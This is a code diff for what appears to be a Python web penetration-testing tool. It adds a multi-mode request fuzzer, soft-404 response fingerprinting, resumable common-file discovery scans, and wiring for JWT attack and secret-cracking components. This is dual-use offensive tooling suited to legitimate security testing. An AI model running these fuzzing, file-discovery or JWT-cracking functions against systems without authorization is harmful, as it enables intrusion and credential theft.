+        # Lists dropped into the wordlists directory are available by file name
+        if self.directory and re.fullmatch(r'[A-Za-z0-9][A-Za-z0-9_.-]*', name or ''):
+            for candidate in (name, f"{name}.txt"):
+                path = os.path.join(self.directory, candidate)
+                if os.path.isfile(path):
+                    return path, True
+
+        raise KeyError(f"Unknown wordlist: {name}")
+
+    def names(self):
+        names = set(self.paths)
+        if self.directory and os.path.isdir(self.directory):
+            for filename in os.listdir(self.directory):
+                if os.path.isfile(os.path.join(self.directory, filename)):
+                    names.add(os.path.splitext(filename)[0])
+        return sorted(names)
+
+    def load(self, path, strip):
+        # surrogateescape keeps odd bytes intact so entries can be encoded back exactly
+        with MappedWordlist(path, strip) as wordlist:
+            lines = (
+                line.decode('utf-8', errors='surrogateescape')
+                for start, end in wordlist.shards()
+                for line in wordlist.read_shard(start, end)
+            )
+            # dict.fromkeys removes duplicates but keeps the original order
+            return tuple(dict.fromkeys(lines))
+
+    def open(self, name):
+        # Memory-mapped view of a list for callers that stream it instead of holding
+        # every entry as a str, remapped when the file changes on disk
+        path, strip = self.get_path(name)
+        stat = os.stat(path)
+        with self.lock:
+            entry = self.mapped.get(path)
+            if entry and entry["identity"]["mtime"] == stat.st_mtime_ns and entry["identity"]["size"] == stat.st_size:
+                return entry
+
+        # The old mapping is left to be closed once running scans drop it
+        entry = {
+            "name": name,
+            "path": path,
+            "wordlist": MappedWordlist(path, strip),
+            "identity": {
+                "path": os.path.abspath(path),
+                "size": stat.st_size,
+                "mtime": stat.st_mtime_ns
+            }
+        }
+        with self.lock:
+            self.mapped[path] = entry
+        return entry
+
+    def get(self, name):
+        path, strip = self.get_path(name)
+        stat = os.stat(path)
+        with self.lock:
+            entry = self.cache.get(path)
+            if entry and entry["identity"]["mtime"] == stat.st_mtime_ns and entry["identity"]["size"] == stat.st_size:
+                return entry
+
+        # Only reloaded when the file changed on disk
+        entry = {
+            "name": name,
+            "path": path,
+            "words": self.load(path, strip),
+            "identity": {
+                "path": os.path.abspath(path),
+                "size": stat.st_size,
+                "mtime": stat.st_mtime_ns
+            }
+        }
+        with self.lock:
+            self.cache[path] = entry
+        return entry
+
+    def describe(self):
+        wordlists = []
+        for name in self.names():
+            try:
+                path, _ = self.get_path(name)
+                with self.lock:
+                    entry = self.cache.get(path)
+                wordlists.append({
+                    "name": name,
+                    "path": path,
+                    "loaded": entry is not None,
+                    "entries": len(entry["words"]) if entry else None
+                })
+            except KeyError:
+                continue
+        return wordlists
+
+class ScanCheckpointStore:
+    def __init__(self, directory='scan_state', save_interval=5.0, save_every=500):
+        self.directory = directory
+        self.save_interval = save_interval
+        self.save_every = save_every
+        self.lock = threading.Lock()
+
+    @staticmethod
+    def get_settings(headers=None, proxies=None, verify=True):
+        # A scan with another session, proxy or TLS setting can see other results,
+        # so it never resumes from this one. Only a hash is kept, the headers
+        # carry cookies and credentials
+        settings = [
+            sorted((name.lower(), value) for name, value in (headers or {}).items()),
+            sorted((proxies or {}).items()),
+            verify
+        ]
+        return hashlib.sha256(json.dumps(settings).encode('utf-8', errors='surrogateescape')).hexdigest()
+
+    def get_key(self, target, wordlist, settings=None):
+        return hashlib.sha256(json.dumps([target, wordlist, settings], sort_keys=True).encode('utf-8')).hexdigest()
+
+    def get_path(self, key):
+        return os.path.join(self.directory, f"{key}.json")
+
+    def load(self, target, wordlist, settings=None):
+        path = self.get_path(self.get_key(target, wordlist, settings))
+        try:
+            with open(path, 'r', encoding='utf-8') as f:
+                state = json.load(f)
+        except (OSError, ValueError):
+            return None
+        if state.get("target") != target or state.get("wordlist") != wordlist or state.get("settings") != settings:
+            return None
+        return state
+
+    def save(self, state):
+        with self.lock:
+            os.makedirs(self.directory, exist_ok=True)
+            path = self.get_path(self.get_key(state["target"], state["wordlist"], state.get("settings")))
+            # Write to a temp file first so a crash never leaves half a checkpoint
+            temp_path = f"{path}.{threading.get_ident()}.tmp"
+            with open(temp_path, 'w', encoding='utf-8') as f:
+                json.dump(state, f)
+            os.replace(temp_path, path)
+
+    def delete(self, target, wordlist, settings=None):
+        try:
+            os.remove(self.get_path(self.get_key(target, wordlist, settings)))
+        except OSError:
+            pass
+
+class ScanCheckpoint:
+    def __init__(self, store, target, wordlist, state=None, settings=None):
+        self.store = store
+        self.target = target
+        self.wordlist = wordlist
+        self.settings = settings
+        state = state or {}
+        # Every index below offset is done; completed holds finished indices above it,
+        # since concurrent probes finish out of order
+        self.offset = state.get("offset", 0)
+        self.completed = set(state.get("completed", []))
+        self.total_files_checked = state.get("total_files_checked", 0)
+        self.found_files = list(state.get("found_files", []))
+        self.last_save = time.time()
+        self.since_save = 0
+
+    def is_done(self, index):
+        return index < self.offset or index in self.completed
+
+    def mark(self, index, found_file=None):
+        self.total_files_checked += 1
+        if found_file is not None:
+            self.found_files.append(found_file)
+        self.completed.add(index)
+        while self.offset in self.completed:
+            self.completed.remove(self.offset)
+            self.offset += 1
+        self.since_save += 1
+
+    def maybe_save(self):
+        if self.since_save >= self.store.save_every or time.time() - self.last_save >= self.store.save_interval:
+            self.save()
+
+    def save(self):
+        self.store.save({
+            "target": self.target,
+            "wordlist": self.wordlist,
+            "settings": self.settings,
+            "offset": self.offset,
+            "completed": sorted(self.completed),
+            "total_files_checked": self.total_files_checked,
+            "found_files": self.found_files,
+            "updated": time.time()
+        })
+        self.last_save = time.time()
+        self.since_save = 0
+
+    def finish(self):
+        self.store.delete(self.target, self.wordlist, self.settings)
+
+class ParsedRequest:
+    # A raw HTTP request parsed once and handed to every consumer
+    __slots__ = ('method', 'target', 'version', 'headers', 'header_index', 'lines', 'body_start', '_body', '_body_loaded', '_text', '_source')
+
+    def __init__(self, method, target, version=None, headers=None, lines=None, body_start=None, text=None):
+        self.method = method
+        self.target = target
+        self.version = version
+        # (name, value) pairs in request order, duplicates kept
+        self.headers = headers or []
+        self.header_index = {}
+        for i, (name, _) in enumerate(self.headers):
+            self.header_index.setdefault(name.lower(), []).append(i)
+        self.lines = lines
+        self.body_start = body_start
+        self._body = None
+        self._body_loaded = False
+        self._text = text
+        self._source = None
+
+    @classmethod
+    def parse(cls, text, strict=True):
+        # strict=False accepts a missing or partial request line, for tools that only
+        # look at the headers
+        lines = text.split('\n')
+        first_line = lines[0].split()
+        if len(first_line) < 2:
+            if strict:
+                raise ValueError("Invalid request format")
+            first_line = (first_line + ['', ''])[:2]
+
+        # Headers run up to the first blank line
+        headers = []
+        current_line = 1
+        while current_line < len(lines) and lines[current_line].strip():
+            header_line = lines[current_line].strip()
+            if ':' in header_line:
+                name, value = header_line.split(':', 1)
+                headers.append((name.strip(), value.strip()))
+            current_line += 1
+
+        body_start = current_line + 1 if current_line < len(lines) else None
+        version = first_line[2] if len(first_line) > 2 else None
+        return cls(first_line[0], first_line[1], version, headers, lines, body_start, text)
+
+    @property
+    def body(self):
+        # Joined on first use, most consumers never look at the body. None when the
+        # request has no blank line after the headers
+        if not self._body_loaded:
+            if self.body_start is not None:
+                self._body = '\n'.join(self.lines[self.body_start:]).strip()
+            self._body_loaded = True
+        return self._body
+
+    @property
+    def text(self):
+        if self._text is None:
+            template, old, new = self._source
+            self._text = template.text.replace(old, new)
+        return self._text
+
+    def get_header(self, name, default=None):
+        indices = self.header_index.get(name.lower())
+        return self.headers[indices[-1]][1] if indices else default
+
+    def header_dict(self, exclude=()):
+        # Later duplicates win, as they did when headers were collected into a dict
+        return {name: value for name, value in self.headers if name.lower() not in exclude}
+
+    def get_url(self, scheme='https'):
+        if self.target.startswith('http'):
+            return self.target
+        host = self.get_header('Host')
+        if not host:
+            raise ValueError("Could not determine host")
+        return f"{scheme}://{host}{self.target}"
+
+    def with_token(self, old, new):
+        # A copy with one string (a token) substituted in the request line, header
+        # values and body, without parsing the request again
+        replace = lambda value: value.replace(old, new) if old in value else value
+        request = ParsedRequest(
+            self.method,
+            replace(self.target),
+            self.version,
+            [(name, replace(value)) for name, value in self.headers]
+        )
+        body = self.body
+        request._body = replace(body) if body is not None else None
+        request._body_loaded = True
+        request._source = (self, old, new)
+        return request
+
+class BodyStore:
+    # Full response bodies live here behind a handle so results only carry a
+    # preview. A body is buffered in memory up to memory_cap bytes and spills
+    # to an anonymous temporary file past that
+    def __init__(self, preview_size=64 * 1024, memory_cap=256 * 1024, max_body_size=256 * 1024 * 1024, ttl=900, max_entries=200, directory=None):
+        self.preview_size = preview_size
+        self.memory_cap = memory_cap
+        self.max_body_size = max_body_size
+        self.ttl = ttl
+        self.max_entries = max_entries
+        self.directory = directory
+        self.entries = OrderedDict()
+        self.memory_bytes = 0
+        self.disk_bytes = 0
+        self.lock = threading.Lock()
+        self.stored = 0
+        self.spilled = 0
+        self.evictions = 0
+
+    def capture(self, chunks, content_type=None):
+        # Reads the chunks to the end (or to max_body_size) and returns the
+        # preview; bodies longer than the preview also get a handle
+        buffer = bytearray()
+        spill = None
+        length = 0
+        complete = True
+        try:
+            for chunk in chunks:
+                if not chunk:
+                    continue
+                length += len(chunk)
+                if spill is not None:
+                    spill.write(chunk)
+                elif len(buffer) + len(chunk) <= self.memory_cap:
+                    buffer.extend(chunk)
+                else:
+                    spill = tempfile.TemporaryFile(prefix='body-', dir=self.directory)
+                    spill.write(buffer)
+                    spill.write(chunk)
+                    # Only the preview stays in memory once the body is on disk
+                    buffer.extend(chunk[:max(self.preview_size - len(buffer), 0)])
+                    del buffer[self.preview_size:]
+                if length >= self.max_body_size:
+                    complete = False
+                    break
+        except BaseException:
+            if spill is not None:
+                spill.close()
+            raise
+
+        preview = bytes(buffer[:self.preview_size])
+        handle = None
+        if spill is not None:
+            spill.flush()
+            handle = self.put(None, spill, length, content_type)
+        elif length > self.preview_size:
+            handle = self.put(bytes(buffer), None, length, content_type)
+
+        return {
+            "preview": preview,
+            "length": length,
+            "truncated": length > len(preview),
+            "complete": complete,
+            "handle": handle
+        }
+
+    def put(self, data, spill, size, content_type):
+        handle = uuid.uuid4().hex
+        with self.lock:
+            self.entries[handle] = {
+                "data": data,
+                "file": spill,
+                "size": size,
+                "content_type": content_type,
+                "created": time.time(),
+                "readers": 0
+            }
+            self.stored += 1
+            if spill is None:
+                self.memory_bytes += size
+            else:
+                self.spilled += 1
+                self.disk_bytes += size
+            self.expire()
+            while len(self.entries) > self.max_entries:
+                self.remove(next(iter(self.entries)))
+                self.evictions += 1
+        return handle
+
+    def expire(self):
+        # Caller must hold self.lock, entries are kept in insertion order
+        cutoff = time.time() - self.ttl
+        while self.entries:
+            handle, entry = next(iter(self.entries.items()))
+            if entry["created"] >= cutoff:
+                break
+            self.remove(handle)
+
+    def remove(self, handle):
+        # Caller must hold self.lock. Closing the file deletes it, while readers
+        # are still streaming the last one to finish closes it instead
+        entry = self.entries.pop(handle)
+        if entry["file"] is None:
+            self.memory_bytes -= entry["size"]
+        else:
+            self.disk_bytes -= entry["size"]
+            if not entry["readers"]:
+                entry["file"].close()
+
+    def open(self, handle, chunk_size=64 * 1024):
+        with self.lock:
+            self.expire()
+            entry = self.entries.get(handle)
+            if entry is None:
+                return None
+            data = entry["data"]
+
+        def chunks():
+            if data is not None:
+                view = memoryview(data)
+                for offset in range(0, len(data), chunk_size):
+                    yield bytes(view[offset:offset + chunk_size])
+                return
+            # Every read seeks under the lock, so several readers can stream the
+            # same body at once through the one shared file object. A reader only
+            # counts once it starts, a generator dropped before its first read
+            # never runs its finally and would keep the file forever
+            spill = entry["file"]
+            with self.lock:
+                if spill.closed:
+                    raise OSError(f"Body {handle} was evicted before it was read")
+                entry["readers"] += 1
+            try:
+                offset = 0
+                while True:
+                    with self.lock:
+                        spill.seek(offset)
+                        chunk = spill.read(chunk_size)
+                    if not chunk:
+                        break
+                    offset += len(chunk)
+                    yield chunk
+            finally:
+                with self.lock:
+                    entry["readers"] -= 1
+                    if not entry["readers"] and handle not in self.entries:
+                        spill.close()
+
+        return {
+            "size": entry["size"],
+            "content_type": entry["content_type"],
+            "chunks": chunks()
+        }
+
+    def exists(self, handle):
+        with self.lock:
+            self.expire()
+            return handle in self.entries
+
+    def read(self, handle):
+        body = self.open(handle)
+        return None if body is None else b''.join(body["chunks"])
+
+    def clear(self):
+        with self.lock:
+            for handle in list(self.entries):
+                self.remove(handle)
+
+    def get_stats(self):
+        with self.lock:
+            self.expire()
+            return {
+                "entries": len(self.entries),
+                "memory_bytes": self.memory_bytes,
+                "disk_bytes": self.disk_bytes,
+                "preview_size": self.preview_size,
+                "memory_cap": self.memory_cap,
+                "max_body_size": self.max_body_size,
+                "ttl": self.ttl,
+                "stored": self.stored,
+                "spilled": self.spilled,
+                "evictions": self.evictions
+            }
+
+class ResponseFingerprinter:
+    # Near-duplicate detection for responses: a 64-bit simhash over the words of a
+    # normalized body, next to the status code and a coarse length bucket
+    TOKEN_PATTERN = re.compile(rb'[a-z]{2,}')
+    # Long random-looking runs (CSRF tokens, nonces, session ids) change on every
+    # response and would otherwise pull identical pages apart
+    NOISE_PATTERN = re.compile(rb'[a-z0-9+/=_-]{24,}')
+    # One translate table per bit, mapping each byte value to 1 when that bit is set
+    BIT_TABLES = tuple(bytes(value >> bit & 1 for value in range(256)) for bit in range(8))
+
+    def __init__(self, max_distance=3, sample_size=16 * 1024, length_slack=32, baseline_ttl=600, failure_ttl=30):
+        self.max_distance = max_distance
+        self.sample_size = sample_size
+        self.length_slack = length_slack
+        self.baseline_ttl = baseline_ttl
+        self.failure_ttl = failure_ttl
+        self.baselines = {}
+        self.baseline_locks = {}
+        self.lock = threading.Lock()
+
+    @staticmethod
+    def length_bucket(length):
+        # Roughly 19% wide, close lengths mostly share a bucket
+        return int(math.log2(length + 1) * 4)
+
+    def simhash(self, sample):
+        tokens = set(self.TOKEN_PATTERN.findall(sample))
+        if not tokens:
+            return 0, 0
+        digests = b''.join(hashlib.blake2b(token, digest_size=8).digest() for token in tokens)
+        # Votes are counted per bit with translate and count, which run in C,
+        # instead of looping over 64 bits for every token
+        half = len(tokens) / 2
+        value = 0
+        for position in range(8):
+            column = digests[position::8]
+            for bit, table in enumerate(self.BIT_TABLES):
+                if column.translate(table).count(1) > half:
+                    value |= 1 << (position * 8 + bit)
+        return value, len(tokens)
+
+    def fingerprint(self, status_code, body, length=None, reflected=()):
+        # reflected are request values (paths, payloads) that pages echo back,
+        # removed so that a soft-404 for /a and /b look the same
+        if isinstance(body, str):
+            body = body.encode('utf-8', errors='surrogateescape')
+        length = len(body) if length is None else length
+        sample = bytes(body[:self.sample_size]).lower()
+        for value in reflected:
+            if value:
+                sample = sample.replace(value.lower().encode('utf-8', errors='surrogateescape'), b' ')
+        simhash, features = self.simhash(self.NOISE_PATTERN.sub(b' ', sample))
+        return {
+            "status_code": status_code,
+            "length": length,
+            "bucket": self.length_bucket(length),
+            "simhash": f"{simhash:016x}",
+            "features": features
+        }
+
+    @staticmethod
+    def distance(a, b):
+        return bin(int(a["simhash"], 16) ^ int(b["simhash"], 16)).count('1')
+
+    def similar(self, a, b):
+        if a["status_code"] != b["status_code"]:
+            return False
+        # Empty or word-less bodies have nothing to hash, only the length can tell
+        if not a["features"] or not b["features"]:
+            return a["features"] == b["features"] and abs(a["length"] - b["length"]) <= self.length_slack
+        return abs(a["bucket"] - b["bucket"]) <= 1 and self.distance(a, b) <= self.max_distance
+
+    def matches(self, fingerprint, baseline):
+        return bool(baseline) and any(self.similar(fingerprint, known) for known in baseline)
+
+    def get_baseline(self, key, take):
+        # One baseline per key (target), concurrent callers wait for the first one
+        # to take it. A failed take is cached for failure_ttl, so a host that errors
+        # or times out is not asked again for every path of a scan
+        with self.lock:
+            entry = self.baselines.get(key)
+            if entry is not None and entry["expires"] > time.time():
+                return entry["fingerprints"]
+            key_lock = self.baseline_locks.setdefault(key, threading.Lock())
+
+        with key_lock:
+            with self.lock:
+                entry = self.baselines.get(key)
+                if entry is not None and entry["expires"] > time.time():
+                    return entry["fingerprints"]
+            try:
+                fingerprints = take()
+            except Exception:
+                fingerprints = None
+            fingerprints = fingerprints or None
+            ttl = self.baseline_ttl if fingerprints else self.failure_ttl
+            with self.lock:
+                self.baselines[key] = {"fingerprints": fingerprints, "expires": time.time() + ttl}
+            return fingerprints
+
+    def clear(self):
+        with self.lock:
+            self.baselines.clear()
+
+class ResponseClusters:
+    def __init__(self, fingerprinter):
+        # The simhash is split into max_distance + 1 bands. Two hashes within
+        # max_distance bits agree on at least one band, so a lookup only compares
+        # against the clusters filed under the same band values
+        self.fingerprinter = fingerprinter
+        self.bands = fingerprinter.max_distance + 1
+        self.band_width = 64 // self.bands
+        self.index = {}
+        self.clusters = []
+
+    def band_keys(self, fingerprint):
+        value = int(fingerprint["simhash"], 16)
+        mask = (1 << self.band_width) - 1
+        return [
+            (fingerprint["status_code"], band, (value >> (band * self.band_width)) & mask)
+            for band in range(self.bands)
+        ]
+
+    def add(self, fingerprint, sample=None):
+        # Returns (cluster id, new); only the first member's sample is kept
+        keys = self.band_keys(fingerprint)
+        for key in keys:
+            for cluster_id in self.index.get(key, ()):
+                cluster = self.clusters[cluster_id]
+                if self.fingerprinter.similar(fingerprint, cluster["fingerprint"]):
+                    cluster["count"] += 1
+                    return cluster_id, False
+
+        cluster_id = len(self.clusters)
+        self.clusters.append({"id": cluster_id, "fingerprint": fingerprint, "count": 1, "sample": sample})
+        for key in keys:
+            self.index.setdefault(key, []).append(cluster_id)
+        return cluster_id, True
+
+    def summary(self):
+        return [
+            {"id": cluster["id"], "count": cluster["count"], "fingerprint": cluster["fingerprint"]}
+            for cluster in self.clusters
+        ]
+
+class Intruder:
+    # Payload positions are marked in the raw request as §default§
+    MARKER = '§'
+    MODES = ('sniper', 'cluster_bomb', 'pitchfork')
+
+    def __init__(self, http_request_tool, batch_size=50, flush_interval=0.5, timeout=10):
+        self.http_request_tool = http_request_tool
+        self.batch_size = batch_size
+        self.flush_interval = flush_interval
+        self.timeout = timeout
+
+    def parse_positions(self, request_text):
+        # Static parts around the positions plus the default value of each position,
+        # parts[i] + value[i] + parts[i + 1] ... rebuilds a variant
+        pieces = request_text.split(self.MARKER)
+        if len(pieces) % 2 == 0:
+            raise ValueError("Unbalanced payload marker")
+        if len(pieces) == 1:
+            raise ValueError("No payload positions marked")
+        return pieces[0::2], pieces[1::2]
+
+    def payload_source(self, spec):
+        # A payload set is an inline list or the name of a wordlist, which is
+        # streamed from its mapping on every pass instead of being loaded
+        if isinstance(spec, str):
+            wordlist = self.http_request_tool.wordlists.open(spec)["wordlist"]
+            return (lambda: (str(entry, 'utf-8', 'surrogateescape') for entry in wordlist.entries())), len(wordlist)
+        if isinstance(spec, list):
+            values = [str(value) for value in spec]
+            return (lambda: iter(values)), len(values)
+        raise ValueError("A payload set must be a list or a wordlist name")
+
+    def iter_variants(self, defaults, sources, mode):
+        # Lazily yields (payloads, values): the payloads used by a variant and the
+        # value for every position. Only one variant exists at a time
+        if mode == 'sniper':
+            source = sources[0]
+            for position in range(len(defaults)):
+                for payload in source():
+                    values = list(defaults)
+                    values[position] = payload
+                    yield (position, payload), values
+        elif mode == 'pitchfork':
+            for values in zip(*(source() for source in sources)):
+                yield values, values
+        else:
+            # Cluster bomb, the last position changes fastest. Inner sets are
+            # re-read for every outer value rather than held by itertools.product
+            def product(remaining, prefix):
+                if not remaining:
+                    yield prefix, prefix
+                    return
+                for value in remaining[0]():
+                    yield from product(remaining[1:], prefix + (value,))
+
+            yield from product(sources, ())
+
+    def count_variants(self, positions, lengths, mode):
+        if mode == 'sniper':
+            return positions * lengths[0]
+        if mode == 'pitchfork':
+            return min(lengths)
+        return math.prod(lengths)
+
+    @staticmethod
+    def build(parts, values):
+        pieces = [parts[0]]
+        for value, part in zip(values, parts[1:]):
+            pieces.append(value)
+            pieces.append(part)
+        return ''.join(pieces)
+
+    def send(self, request_text, proxies=None, verify=True):
+        # One streamed request, only the status, size, timing and a hash of the
+        # body are kept
+        parsed = ParsedRequest.parse(request_text)
+        url = parsed.get_url()
+        # Payloads change the body length, requests fills in the right value
+        headers = parsed.header_dict(exclude=('content-length',))
+        tool = self.http_request_tool
+        start = time.perf_counter()
+        with tool.rate_controller.throttle(urlparse(url).netloc) as feedback:
+            response = tool.connection_pool.request(
+                method=parsed.method,
+                url=url,
+                headers=headers,
+                data=parsed.body,
+                verify=verify,
+                proxies=proxies,
+                timeout=self.timeout,
+                allow_redirects=False,
+                stream=True
+            )
+            feedback["status_code"] = response.status_code
+            feedback["retry_after"] = response.headers.get('Retry-After')
+        try:
+            body_hash = hashlib.sha256()
+            length = 0
+            for chunk in response.iter_content(chunk_size=16384):
+                body_hash.update(chunk)
+                length += len(chunk)
+            timings = tool.connection_pool.finish(response)
+        finally:
+            response.close()
+        return {
+            "status_code": response.status_code,
+            "length": length,
+            "time": round((time.perf_counter() - start) * 1000, 1),
+            "ttfb": timings["ttfb"] if timings else None,
+            "body_hash": body_hash.hexdigest()[:16]
+        }
+
+    def iter_fuzz(self, request_text, payloads, mode='sniper', use_proxy=False, proxy_address=None, verify=True, concurrency=None, cancel_event=None):
+        try:
+            if mode not in self.MODES:
+                yield {"error": f"Unknown attack mode: {mode}"}
+                return
+            try:
+                parts, defaults = self.parse_positions(request_text)
+            except ValueError as e:
+                yield {"error": str(e)}
+                return
+
+            if not isinstance(payloads, list) or not payloads:
+                yield {"error": "No payload sets provided"}
+                return
+            expected = 1 if mode == 'sniper' else len(defaults)
+            if len(payloads) != expected:
+                yield {"error": f"{mode} needs {expected} payload set(s) for {len(defaults)} position(s)"}
+                return
+            try:
+                sources, lengths = zip(*(self.payload_source(spec) for spec in payloads))
+            except (KeyError, OSError, ValueError) as e:
+                yield {"error": f"Failed to load payloads: {str(e)}"}
+                return
+
+            proxies = None
+            if use_proxy:
+                if not proxy_address:
+                    yield {"error": "Please enter a proxy address"}
+                    return
+                if not proxy_address.startswith(('http://', 'https://')):
+                    proxy_address = 'http://' + proxy_address
+                proxies = {
+                    'http': proxy_address,
+                    'https': proxy_address
+                }
+
+            total = self.count_variants(len(defaults), lengths, mode)
+            yield {"type": "start", "mode": mode, "positions": len(defaults), "total": total}
+
+            variants = enumerate(self.iter_variants(defaults, sources, mode))
+
+            def attack(variant):
+                _, (_, values) = variant
+                return self.send(self.build(parts, values), proxies, verify)
+
+            start = time.time()
+            sent = 0
+            errors = 0
+            batch = []
+            last_flush = time.time()
+            for (index, (variant_payloads, _)), result, error in self.http_request_tool.scan_engine.run(
+                attack,
+                variants,
+                concurrency=concurrency
+            ):
+                if mode == 'sniper':
+                    position, payload = variant_payloads
+                    entry = {"index": index, "position": position, "payloads": [payload]}
+                else:
+                    entry = {"index": index, "payloads": list(variant_payloads)}
+                if error is not None:
+                    entry["error"] = str(error)
+                    errors += 1
+                else:
+                    entry.update(result)
+                sent += 1
+                batch.append(entry)
+
+                if len(batch) >= self.batch_size or time.time() - last_flush >= self.flush_interval:
+                    yield {"type": "results", "sent": sent, "total": total, "results": batch}
+                    batch = []
+                    last_flush = time.time()
+                if cancel_event is not None and cancel_event.is_set():
+                    break
+
+            if batch:
+                yield {"type": "results", "sent": sent, "total": total, "results": batch}
+            yield {
+                "type": "done",
+                "sent": sent,
+                "errors": errors,
+                "total": total,
+                "cancelled": cancel_event is not None and cancel_event.is_set(),
+                "elapsed": round(time.time() - start, 3)
+            }
+        except Exception as e:
+            yield {"error": f"Failed to run fuzzer: {str(e)}"}
+
 class HTTPRequestTool:
     def __init__(self):
         self.jwt_attacks = JWTAttacks(self)
         self.tools = Tools(self)
         self.third_party_analysis = Third_Party_Analysis(self)
+        self.scan_engine = ScanEngine()
+        self.connection_pool = ConnectionPool()
+        self.rate_controller = RateController()
+        self.response_cache = ResponseCache()
+        self.body_store = BodyStore()
+        self.intruder = Intruder(self)
+        self.fingerprinter = ResponseFingerprinter()
+        self.jwt_cracker = JWTCracker()
+        self.secret_store = SecretStore(os.getenv('SECRET_STORE_PATH', 'cracked_secrets.sqlite'))
+        self.key_pool = KeyPool()
+        self.rsa_key_recovery = RSAKeyRecovery()
+        self.probe_body_cap = 64 * 1024
+        self.checkpoint_store = ScanCheckpointStore()
+        self.wordlists = WordlistRegistry()
+        self.wordlists.register('common', 'common_files.txt')
+        self.wordlists.register('jwt', 'jwt_secrets/jwt.secrets.list', strip=False)
         
         # Load header information from JSON file
         try:
@@ -36,148 +1920,333 @@ class HTTPRequestTool:
             self.request_headers = {}
             self.response_headers = {}
         
-        # Load common files from common_files.txt
+        # Preload common files from common_files.txt, later scans reuse the cached list
         try:
-            with open('common_files.txt', 'r', encoding='utf-8') as common_files_file:
-                self.common_files = [line.strip() for line in common_files_file if line.strip()]
+            self.common_files = self.wordlists.get('common')["words"]
         except Exception as e:
             print(f"Failed to load common files: {str(e)}")
             self.common_files = []
 
-    def check_common_files(self, request_text, use_proxy=False, proxy_address=None, verify=True):
+    def probe_url(self, url, headers=None, proxies=None, verify=True, timeout=5, body_cap=None, use_cache=False):
+        # One streamed GET per path. The length comes from Content-Length when the
+        # body is not encoded, otherwise bytes are counted as they arrive; at most
+        # body_cap bytes of the body are ever kept in memory
+        body_cap = self.probe_body_cap if body_cap is None else max(0, int(body_cap))
+
+        cache_key = self.response_cache.get_key('GET', url, headers, proxies=proxies, verify=verify)
+        if use_cache:
+            cached = self.response_cache.get(cache_key)
+            # A cached probe is only good enough if it kept at least as much body
+            if cached is not None and (len(cached["body"]) >= body_cap or not cached["truncated"]):
+                cached["body"] = cached["body"][:body_cap]
+                cached["truncated"] = cached["response_length"] > len(cached["body"])
+                return cached
+
+        with self.rate_controller.throttle(urlparse(url).netloc) as feedback:
+            response = self.connection_pool.get(
+                url,
+                headers=headers,
+                verify=verify,
+                proxies=proxies,
+                timeout=timeout,
+                allow_redirects=False,
+                stream=True
+            )
+            feedback["status_code"] = response.status_code
+            feedback["retry_after"] = response.headers.get('Retry-After')
         try:
-            # Parse the request to get the base URL
-            request_lines = request_text.split('\n')
-            if not request_lines:
-                return {"error": "No request found"}
-            
-            # Get the first line (method and path)
-            first_line = request_lines[0].split()
-            if len(first_line) < 2:
-                return {"error": "Invalid request format"}
-            
-            # Get the full URL
-            full_url = first_line[1]
-            if not full_url.startswith('http'):
-                # If host header exists, use it to construct full URL
-                host = None
-                for line in request_lines[1:]:
-                    if line.lower().startswith('host:'):
-                        host = line.split(':', 1)[1].strip()
+            known_length = None
+            content_length = response.headers.get('Content-Length', '')
+            if content_length.isdigit() and 'Content-Encoding' not in response.headers:
+                known_length = int(content_length)
+
+            body = bytearray()
+            response_length = 0
+            if known_length is None or (known_length > 0 and body_cap > 0):
+                for chunk in response.iter_content(chunk_size=8192):
+                    response_length += len(chunk)
+                    if len(body) < body_cap:
+                        body.extend(chunk[:body_cap - len(body)])
+                    # With a known length there is no need to download past the cap
+                    if known_length is not None and len(body) >= body_cap:
                         break
-                
-                if not host:
-                    return {"error": "Could not determine host"}
-                
-                full_url = f"https://{host}{full_url}"
-            
-            # Parse URL to get base
-            parsed_url = urlparse(full_url)
-            base_url = f"{parsed_url.scheme}://{parsed_url.netloc}"
-            
-            # Get headers from original request
-            headers = {}
-            for line in request_lines[1:]:
-                if ':' in line:
-                    key, value = line.split(':', 1)
-                    headers[key.strip()] = value.strip()
-            
+            if known_length is not None:
+                response_length = known_length
+            self.connection_pool.finish(response)
+
+            result = {
+                "url": url,
+                "status_code": response.status_code,
+                "headers": dict(response.headers),
+                "response_length": response_length,
+                "body": bytes(body),
+                "truncated": response_length > len(body)
+            }
+            self.response_cache.put(cache_key, result, len(body) + 512)
+            return result
+        finally:
+            # Closes the connection if the body was only partly read, otherwise
+            # hands it back to the pool for reuse
+            response.close()
+
+    def parse_scan_target(self, target):
+        # A target is either a raw request or a plain base URL
+        target = target.strip()
+        if target.startswith('http') and not any(c.isspace() for c in target):
+            parsed_url = urlparse(target)
+            if not parsed_url.netloc:
+                raise ValueError("Invalid request format")
+            return f"{parsed_url.scheme}://{parsed_url.netloc}", {}
+
+        # Parse the request to get the base URL
+        parsed = ParsedRequest.parse(target)
+        full_url = parsed.get_url()
+        
+        # Parse URL to get base
+        parsed_url = urlparse(full_url)
+        base_url = f"{parsed_url.scheme}://{parsed_url.netloc}"
+        
+        # Get headers from original request, the probes never send a body
+        headers = parsed.header_dict(exclude=('content-length',))
+
+        return base_url, headers
+
+    def get_soft_404_baseline(self, base_url, headers=None, proxies=None, verify=True, body_cap=None):
+        # Taken once per target from two random paths, with and without an extension
+        def take():
+            fingerprints = []
+            for path in (uuid.uuid4().hex, f"{uuid.uuid4().hex}.html"):
+                result = self.probe_url(
+                    f"{base_url}/{path}",
+                    headers=headers,
+                    proxies=proxies,
+                    verify=verify,
+                    body_cap=body_cap,
+                    use_cache=False
+                )
+                fingerprints.append(self.fingerprinter.fingerprint(
+                    result["status_code"], result["body"], result["response_length"], reflected=(path,)
+                ))
+            return fingerprints
+
+        return self.fingerprinter.get_baseline(("soft_404", base_url), take)
+
+    def iter_common_files(self, request_text, use_proxy=False, proxy_address=None, verify=True, concurrency=None, body_cap=None, resume=True, wordlist='common', use_cache=False):
+        try:
+            target = self.parse_scan_target(request_text)
+        except ValueError as e:
+            yield {"error": str(e)}
+            return
+        yield from self.scan_targets([target], use_proxy, proxy_address, verify, concurrency, body_cap, resume, wordlist, use_cache)
+
+    def iter_common_files_batch(self, targets, use_proxy=False, proxy_address=None, verify=True, concurrency=None, body_cap=None, resume=True, wordlist='common', use_cache=False):
+        if not targets:
+            yield {"error": "No targets provided"}
+            return
+
+        parsed_targets = {}
+        for i, target in enumerate(targets, 1):
+            try:
+                base_url, headers = self.parse_scan_target(target)
+            except ValueError as e:
+                yield {"error": f"Target #{i}: {str(e)}"}
+                return
+            # The same host listed twice is only scanned once
+            parsed_targets.setdefault(base_url, headers)
+
